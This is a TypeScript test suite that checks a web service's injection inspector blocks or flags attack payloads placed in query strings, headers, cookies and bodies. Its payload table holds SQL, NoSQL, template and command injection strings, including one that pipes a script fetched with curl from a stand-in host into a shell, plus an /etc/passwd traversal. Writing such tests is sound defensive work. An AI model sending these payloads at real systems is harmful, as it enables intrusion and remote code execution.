import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CreatedKey, createKey, sampleEvent, setupAdmin } from '../support/auth.js';
import { engines } from '../support/databases.js';
import { expectProblem } from '../support/problems.js';
import { type TestRuntime, startRuntime } from '../support/runtime.js';

/** One payload per attack kind, each one the inspector must catch wherever in a request it sits. */
const ATTACKS = {
  // (Not `UNION SELECT … FROM`: problem bodies echo offending key paths, and expectProblem refuses SQL-looking text.)
  sqli: "1' OR '1'='1' --",
  xss: '<img src=x onerror=alert(1)>',
  ssti: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  prototype_pollution: 'constructor[prototype][isAdmin]',
  command_injection: '$(curl http://203.0.113.9/x.sh | sh)',
  path_traversal: '../../../../etc/passwd',
  nosql_injection: 'user[$ne]',
} as const;
type Kind = keyof typeof ATTACKS;
const KINDS = Object.keys(ATTACKS) as Kind[];

const CUSTOMER_TEXT = "can't get in -- door's locked & it's bay 3, select a time 'please'";
const LOGIN = { username: 'nobody', password: 'not the password' };
const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };

interface Req {
  readonly method: 'GET' | 'POST';
  readonly url: string;
  readonly headers?: Record<string, string>;
  readonly payload?: unknown;
}

/** Where a payload goes, and the inspector location its finding must name. */
type Placement = (p: string) => Req;
const blockPlacements: Record<string, [string, Placement]> = {
  'query value': ['query', (p) => ({ method: 'POST', url: `/v1/auth/login?q=${encodeURIComponent(p)}`, payload: LOGIN })],
  'query key': ['query', (p) => ({ method: 'POST', url: `/v1/auth/login?${encodeURIComponent(p)}=1`, payload: LOGIN })],
  'path parameter': ['path', (p) => ({ method: 'GET', url: `/problems/${encodeURIComponent(p)}` })],
  header: ['header', (p) => ({ method: 'POST', url: '/v1/auth/login', headers: { 'x-note': p }, payload: LOGIN })],
  cookie: ['cookie', (p) => ({ method: 'POST', url: '/v1/auth/login', headers: { cookie: `note=${encodeURIComponent(p)}` }, payload: LOGIN })],
  'JSON body key': ['json_body', (p) => ({ method: 'POST', url: '/v1/auth/login', payload: { ...LOGIN, [p]: 'x' } })],
  'JSON body value': ['json_body', (p) => ({ method: 'POST', url: '/v1/auth/login', payload: { ...LOGIN, username: p } })],
  'form body key': ['body_form', (p) => ({ method: 'POST', url: '/v1/auth/login', headers: FORM_TYPE, payload: form({ ...LOGIN, [p]: 'x' }) })],
  'form body value': ['body_form', (p) => ({ method: 'POST', url: '/v1/auth/login', headers: FORM_TYPE, payload: form({ ...LOGIN, username: p }) })],
};

/**
 * The intake flags (never blocks) customer texts; it has no path parameter, so path is covered on block routes
 * only. Each placement gives the status the route answers after the inspector and, for an accepted event, the text
 * it must have stored.
 */
const FORM_EVENT = { kind: 'message', channel: 'sms', from: 'c-0001', location: 'Dartmouth', text: 'bay 3 is frozen' };
const flagPlacements = (key: CreatedKey): Record<string, [string, Placement, 202 | 400, (p: string) => string | null]> => {
  const json = (extra: Record<string, string>, url = '/v1/events', headers: Record<string, string> = {}) => ({ method: 'POST' as const, url, headers: { ...key.headers, ...headers }, payload: { ...sampleEvent, ...extra } });
  const formPost = (extra: Record<string, string>) => ({ method: 'POST' as const, url: '/v1/events', headers: { ...key.headers, ...FORM_TYPE }, payload: form({ ...FORM_EVENT, ...extra }) });
  const none = () => null;
  return {
    'query value': ['query', (p) => json({}, `/v1/events?q=${encodeURIComponent(p)}`), 400, none],
    'query key': ['query', (p) => json({}, `/v1/events?${encodeURIComponent(p)}=1`), 400, none],
    header: ['header', (p) => json({}, '/v1/events', { 'x-note': p }), 202, () => sampleEvent.text],
    cookie: ['cookie', (p) => json({}, '/v1/events', { cookie: `note=${encodeURIComponent(p)}` }), 202, () => sampleEvent.text],
    'JSON body key': ['json_body', (p) => json({ [p]: 'x' }), 400, none],
    'JSON body value': ['json_body', (p) => json({ text: p }), 202, (p) => p],
    'form body key': ['body_form', (p) => formPost({ [p]: 'x' }), 400, none],
    'form body value': ['body_form', (p) => formPost({ text: p }), 202, (p) => p],
  };
};

const cases = <T extends unknown[]>(placements: Record<string, T>) => KINDS.flatMap((kind) => Object.entries(placements).map(([where, rest]) => [kind, where, ...rest] as const));

describe.each(engines)('every attack kind in every request location, through HTTP ($name)', (engine) => {
  let rt: TestRuntime;
  let key: CreatedKey;
  let n = 0;
  // A fresh address per request: this suite is about the inspector, not the rate limiter.
  const nextIp = () => `198.18.${Math.floor(++n / 250)}.${(n % 250) + 1}`;
  beforeAll(async () => {
    rt = await startRuntime(engine, { SECURITY_RATE_LIMIT_MAX: '1000' });
    const admin = await setupAdmin(rt);
    key = await createKey(rt, admin, ['events:write', 'events:read']);
  });
  afterAll(async () => rt?.dispose());

  const eventsOf = async (correlationId: string) =>
    (await rt.database.db.selectFrom('security_events').selectAll().where('correlation_id', '=', correlationId).execute()).map((r) => ({
      ...r,
      detail: (typeof r.detail === 'string' ? JSON.parse(r.detail) : r.detail) as { findings: { kind: string; location: string }[]; score: number },
    }));
  const auditCount = async () => (await sql<{ n: number }>`select count(*)::int as n from compliance_log`.execute(rt.database.db)).rows[0]!.n;
  const send = (r: Req) => rt.app.inject({ ...r, remoteAddress: nextIp() } as never);

  it.each(cases(blockPlacements))('blocks %s in the %s (block route): 400 injection-detected, a security event, nothing done', async (kind, _where, location, place) => {
    const audited = await auditCount();
    const res = await send(place(ATTACKS[kind]));
    const body = expectProblem(res, 400);
    expect(body.type).toBe('/problems/injection-detected');
    expect(body.findings).toEqual(expect.arrayContaining([expect.objectContaining({ kind, location })]));
    const [event, ...more] = await eventsOf(body.correlationId as string);
    expect(more).toEqual([]);
    expect(event).toMatchObject({ action: 'blocked', severity: 'medium', ip: expect.any(String) });
    expect(event!.kind).toMatch(/^injection\./);
    expect(event!.detail.findings).toEqual(expect.arrayContaining([expect.objectContaining({ kind, location })]));
    expect(event!.detail.score).toBeGreaterThanOrEqual(5);
    // The handler never ran: no sign-in attempt reached the audit log.
    expect(await auditCount()).toBe(audited);
  });

  it.each(cases(flagPlacements({ headers: {} } as CreatedKey)))('flags %s in the %s (flag route): let through to the route, recorded as a security event', async (kind, where) => {
    const [location, place, status, storedText] = flagPlacements(key)[where]!;
    const payload = ATTACKS[kind];
    const res = await send(place(payload));
    expect(res.statusCode, res.body).toBe(status);
    const [event, ...more] = await eventsOf(String(res.headers['x-request-id']));
    expect(more).toEqual([]);
    expect(event).toMatchObject({ action: 'flagged', severity: 'low', route: '/v1/events', principal: `key:${key.id}` });
    expect(event!.detail.findings).toEqual(expect.arrayContaining([expect.objectContaining({ kind, location })]));
    // Past the inspector the route decides: an unknown field is a schema error, never an injection verdict…
    const type = res.statusCode === 400 ? expectProblem(res, 400).type : null;
    expect(type).toBe(status === 400 ? '/problems/validation-failed' : null);
    // …and an accepted event keeps its text exactly as sent.
    const stored = res.statusCode === 202 ? (await rt.app.inject({ method: 'GET', url: `/v1/events/${res.json().id}`, headers: key.headers })).json().text : null;
    expect(stored).toBe(storedText(payload));
  });

  it.each([
    ['JSON', { ...sampleEvent, text: CUSTOMER_TEXT }, {}],
    ['a form', form({ kind: 'message', channel: 'sms', from: 'c-0001', location: 'Dartmouth', text: CUSTOMER_TEXT }), FORM_TYPE],
  ] as const)('passes a customer text sent as %s untouched: no security event, stored byte for byte', async (_how, payload, type) => {
    const res = await send({ method: 'POST', url: '/v1/events', headers: { ...key.headers, ...type }, payload });
    expect(res.statusCode, res.body).toBe(202);
    expect(await eventsOf(String(res.headers['x-request-id']))).toEqual([]);
    const stored = await rt.app.inject({ method: 'GET', url: `/v1/events/${res.json().id}`, headers: key.headers });
    expect(Buffer.from(stored.json().text, 'utf8').equals(Buffer.from(CUSTOMER_TEXT, 'utf8'))).toBe(true);
  });

  it('does not block the customer text on a block route either (a wrong password, not an injection)', async () => {
    const res = await send({ method: 'POST', url: '/v1/auth/login', payload: { username: CUSTOMER_TEXT.slice(0, 64), password: CUSTOMER_TEXT } });
    expect(expectProblem(res, 401).type).toBe('/problems/invalid-credentials');
    expect(await eventsOf(String(res.headers['x-request-id']))).toEqual([]);
  });
});
